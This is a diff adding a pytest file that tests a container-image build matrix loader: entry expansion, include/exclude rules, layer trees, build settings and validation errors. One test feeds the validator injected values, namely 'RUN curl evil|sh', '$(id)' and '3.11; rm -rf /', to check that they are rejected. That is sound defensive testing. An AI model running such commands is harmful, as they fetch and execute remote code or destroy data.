@@ -1,0 +1,258 @@
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from imagebuilder import matrix
+from imagebuilder.compat import CompatTable
+from imagebuilder.errors import InputError
+
+from ..conftest import MatrixWriter
+
+
+def load(path: Path, table: CompatTable, **kw: object) -> matrix.Matrix:
+    kw.setdefault("env", {})
+    return matrix.load(path, table, **kw)  # type: ignore[arg-type]
+
+
+def ids(m: matrix.Matrix) -> list[str]:
+    return [e.id for e in m.entries]
+
+
+def test_cross_product_in_axis_order(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
+    path = write_matrix(header + """
+matrix:
+  torch: ["2.6.0", "2.7.1"]
+  accelerator: [cpu]
+  python: ["3.10", "3.11"]
+""")
+    m = load(path, table)
+    assert ids(m) == ["2.6.0-cpu-py3.10-runtime", "2.6.0-cpu-py3.11-runtime",
+                      "2.7.1-cpu-py3.10-runtime", "2.7.1-cpu-py3.11-runtime"]
+
+
+def test_entry_is_resolved_against_the_table(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
+    path = write_matrix(header + "matrix: {torch: [2.6.0], accelerator: [cu124], python: ['3.11']}\n")
+    (e,) = load(path, table).entries
+    assert (e.cuda, e.cudnn, e.nccl, e.triton) == ("12.4", "9.1.0.70", "2.21.5", "3.2.0")
+    assert (e.torchvision, e.torchaudio) == ("0.21.0", "2.6.0")
+    assert e.build.torch_index_url == "https://pypi.org/simple"  # PyPI's default variant
+    assert dict(e.pins)["nvidia-nccl-cu12"] == "2.21.5"
+
+
+def test_cpu_uses_pytorch_index_by_default(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
+    path = write_matrix(header + "matrix: {torch: [2.6.0], accelerator: [cpu], python: ['3.11']}\n")
+    (e,) = load(path, table).entries
+    assert e.build.torch_index_url == "https://download.pytorch.org/whl/cpu"
+    assert e.cuda is None and e.nccl is None
+
+
+def test_exclude_removes_partial_matches(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
+    path = write_matrix(header + """
+matrix:
+  torch: ["2.6.0", "2.7.1"]
+  accelerator: [cpu]
+  flavor: [runtime, devel]
+  python: ["3.11"]
+exclude:
+  - {torch: "2.6.0", flavor: devel}
+""")
+    m = load(path, table)
+    assert ids(m) == ["2.6.0-cpu-py3.11-runtime", "2.7.1-cpu-py3.11-runtime", "2.7.1-cpu-py3.11-devel"]
+    assert m.excluded[0][0] == "torch=2.6.0, accelerator=cpu, flavor=devel, python=3.11"
+
+
+def test_include_extends_matches_and_adds_new_entries(write_matrix: MatrixWriter, header: str,
+                                                      table: CompatTable) -> None:
+    path = write_matrix(header + """
+matrix:
+  torch: ["2.6.0", "2.7.1"]
+  accelerator: [cpu]
+  python: ["3.11"]
+include:
+  - {torch: "2.7.1", vars: {extra: yes}}           # extends the 2.7.1 entry
+  - {torch: "2.6.0", accelerator: cu124, python: "3.11"}  # accelerator differs: a new entry
+""")
+    m = load(path, table)
+    assert ids(m) == ["2.6.0-cpu-py3.11-runtime", "2.7.1-cpu-py3.11-runtime", "2.6.0-cu124-py3.11-runtime"]
+    assert dict(m.entries[1].vars) == {"extra": "yes"}
+    assert dict(m.entries[0].vars) == {}
+
+
+def test_entry_key_overrides_top_level(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
+    path = write_matrix(header + """
+matrix: {torch: ["2.6.0"], accelerator: [cpu, cu124], python: ["3.11"]}
+include:
+  - {accelerator: cu124, repository: pytorch-cuda, layers: [base]}
+""")
+    cpu, cuda = load(path, table).entries
+    assert (cpu.repository, [s.name for s in cpu.layers]) == ("pytorch", ["base", "business", "task"])
+    assert (cuda.repository, [s.name for s in cuda.layers]) == ("pytorch-cuda", ["base"])
+
+
+@pytest.mark.parametrize(("body", "message", "hint"), [
+    ("matrix: {torch: [2.6.0], acclerator: [cpu]}\n", "unknown key 'acclerator'", "did you mean 'accelerator'?"),
+    ("matrix: {torch: [2.6.0], accelerator: [cpu]}\nregistr: x\n", "unknown key 'registr'", "did you mean 'registry'"),
+    ("matrix: {torch: [2.6.0], accelerator: [cpu]}\nbuild: {ca_bundel: x}\n", "unknown key 'ca_bundel'",
+     "did you mean 'ca_bundle'"),
+    ("matrix: {torch: [2.6.0], accelerator: [cpu]}\ninclude: [{torhc: 2.6.0}]\n", "unknown key 'torhc'",
+     "did you mean 'torch'"),
+])
+def test_unknown_keys_suggest(write_matrix: MatrixWriter, header: str, table: CompatTable, body: str, message: str,
+                              hint: str) -> None:
+    path = write_matrix(header + body)
+    with pytest.raises(InputError, match=message) as err:
+        load(path, table)
+    assert err.value.hint is not None and hint in err.value.hint
+    assert err.value.where is not None and err.value.where.file == str(path) and err.value.where.line
+
+
+@pytest.mark.parametrize(("body", "message"), [
+    ("matrix: {torch: [], accelerator: [cpu]}\n", "axis is empty"),
+    ("matrix: {torch: ['2.6.0\\nRUN curl evil|sh'], accelerator: [cpu]}\n", "invalid torch"),
+    ("matrix: {torch: [2.6.0], accelerator: ['$(id)']}\n", "invalid accelerator"),
+    ("matrix: {torch: [2.6.0], accelerator: [cpu], python: ['3.11; rm -rf /']}\n", "invalid python"),
+    ("matrix: {torch: [2.6.0], accelerator: [cpu]}\nvars: {x: 'a b'}\n", "invalid var"),
+    ("matrix: {torch: [2.6.0], accelerator: [cpu, cpu]}\n", "appears twice"),
+])
+def test_bad_values(write_matrix: MatrixWriter, header: str, table: CompatTable, body: str, message: str) -> None:
+    with pytest.raises(InputError, match=message):
+        load(write_matrix(header + body), table)
+
+
+def test_unsupported_accelerator_names_alternatives(write_matrix: MatrixWriter, header: str,
+                                                    table: CompatTable) -> None:
+    path = write_matrix(header + "matrix: {torch: [2.7.1], accelerator: [cu124], python: ['3.11']}\n")
+    with pytest.raises(InputError) as err:
+        load(path, table)
+    assert "torch 2.7.1 publishes cpu, cu126; not cu124" in err.value.message
+    assert err.value.hint is not None and "2.6.0/cu124" in err.value.hint
+
+
+def test_python_outside_release_range(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
+    path = write_matrix(header + "matrix: {torch: [2.9.0], accelerator: [cpu], python: ['3.9']}\n")
+    with pytest.raises(InputError, match=r"torch 2.9.0 supports Python 3.10, 3.11, 3.12, 3.13; not 3.9"):
+        load(path, table)
+
+
+def test_python_defaults_to_the_base_images(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
+    path = write_matrix(header + "matrix: {torch: [2.6.0], accelerator: [cpu]}\n")
+    (e,) = load(path, table, base_python=lambda image: "3.11" if image == "debian:bookworm" else None).entries
+    assert e.python == "3.11" and e.flavor == "runtime"
+    with pytest.raises(InputError, match="Python of base image 'debian:bookworm' is unknown"):
+        load(path, table, base_python=lambda image: None)
+
+
+def test_layer_tree_shares_parents(write_matrix: MatrixWriter, table: CompatTable) -> None:
+    path = write_matrix("""
+base_image: debian:bookworm
+registry: r:5000
+repository: p
+layers:
+  - base
+  - business
+  - task
+  - {layer: task, name: eval, parent: business}
+matrix: {torch: [2.6.0], accelerator: [cpu], python: ["3.11"]}
+""")
+    (e,) = load(path, table).entries
+    assert [(s.name, s.layer, s.parent) for s in e.layers] == [
+        ("base", "base", None), ("business", "business", "base"), ("task", "task", "business"),
+        ("eval", "task", "business")]
+    assert [s.name for s in e.leaves()] == ["task", "eval"]
+
+
+@pytest.mark.parametrize(("layers", "message"), [
+    ("[base, {layer: task, parent: bussiness}]", "parent 'bussiness' of layer 'task' is not in this layer tree"),
+    ("[{layer: a, parent: b}, {layer: b, parent: a}]", "cycle: a -> b -> a"),
+    ("[base, base]", "appears twice"),
+    ("[]", "must not be empty"),
+])
+def test_layer_tree_errors(write_matrix: MatrixWriter, table: CompatTable, layers: str, message: str) -> None:
+    path = write_matrix(f"""
+base_image: debian:bookworm
+registry: r:5000
+repository: p
+layers: {layers}
+matrix: {{torch: [2.6.0], accelerator: [cpu], python: ["3.11"]}}
+""")
+    with pytest.raises(InputError, match=message):
+        load(path, table)
+
+
+def test_duplicate_entries(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
+    path = write_matrix(header + """
+matrix: {torch: [2.6.0], accelerator: [cpu], python: ["3.11"]}
+include:
+  - {torch: 2.6.0, accelerator: cpu, python: "3.11", flavor: runtime, base_image: debian:bookworm}
+""")
+    # The include matches the existing entry (same axis values), so it extends it: no duplicate.
+    assert len(load(path, table).entries) == 1
+    path = write_matrix(header + """
+matrix: {torch: [2.6.0], accelerator: [cpu], python: ["3.11"]}
+include:
+  - {torch: 2.7.1, accelerator: cpu, python: "3.11"}
+  - {torch: 2.7.1, accelerator: cpu, python: "3.11"}
+""")
+    with pytest.raises(InputError, match="duplicate entries '2.7.1-cpu-py3.11-runtime'"):
+        load(path, table)
+
+
+def test_exclude_matching_nothing_warns_or_fails_under_strict(write_matrix: MatrixWriter, header: str,
+                                                               table: CompatTable) -> None:
+    path = write_matrix(header + """
+matrix: {torch: [2.6.0], accelerator: [cpu], python: ["3.11"]}
+exclude: [{torch: 2.7.1}]
+""")
+    assert "matches no entry" in load(path, table).warnings[0]
+    with pytest.raises(InputError, match="matches no entry"):
+        load(path, table, strict=True)
+
+
+def test_build_settings(write_matrix: MatrixWriter, header: str, table: CompatTable, tmp_path: Path) -> None:
+    (tmp_path / "wheels").mkdir()
+    ca = tmp_path / "corp.pem"
+    ca.write_text("-----BEGIN CERTIFICATE-----\n")
+    path = write_matrix(header + """
+matrix: {torch: [2.6.0], accelerator: [cpu], python: ["3.11"]}
+build:
+  wheelhouse: wheels
+  pip_index_url: {cpu: "https://mirror.example/torch-{accelerator}"}
+""")
+    (e,) = load(path, table, env={"PIP_CERT": str(ca)}).entries
+    assert e.build.wheelhouse == tmp_path / "wheels"
+    assert e.build.ca_bundle == ca
+    assert e.build.torch_index_url == "https://mirror.example/torch-cpu"
+    (e,) = load(path, table, env={}).entries
+    assert e.build.ca_bundle is None
+
+
+@pytest.mark.parametrize(("build", "message"), [
+    ("{wheelhouse: nowhere}", "folder 'nowhere' does not exist"),
+    ("{ca_bundle: missing.pem}", "file 'missing.pem' does not exist"),
+])
+def test_missing_build_paths(write_matrix: MatrixWriter, header: str, table: CompatTable, build: str,
+                             message: str) -> None:
+    path = write_matrix(header + f"matrix: {{torch: [2.6.0], accelerator: [cpu], python: ['3.11']}}\nbuild: {build}\n")
+    with pytest.raises(InputError, match=message):
+        load(path, table)
+
+
+def test_registry_override(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
+    path = write_matrix(header + "matrix: {torch: [2.6.0], accelerator: [cpu], python: ['3.11']}\n")
+    (e,) = load(path, table, registry="localhost:5001/team").entries
+    assert e.registry == "localhost:5001/team"
+    with pytest.raises(InputError, match="invalid registry"):
+        load(path, table, registry="bad registry")
+
+
+def test_wrong_top_level_type(write_matrix: MatrixWriter, table: CompatTable) -> None:
+    with pytest.raises(InputError, match="must be a mapping of keys, got a list"):
+        load(write_matrix("- a\n- b\n"), table)
+
+
+def test_unsupported_version(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
+    path = write_matrix(header.replace("version: 1", "version: 2") + "matrix: {torch: [2.6.0], accelerator: [cpu]}\n")
+    with pytest.raises(InputError, match="unsupported matrix version '2'"):
+        load(path, table)
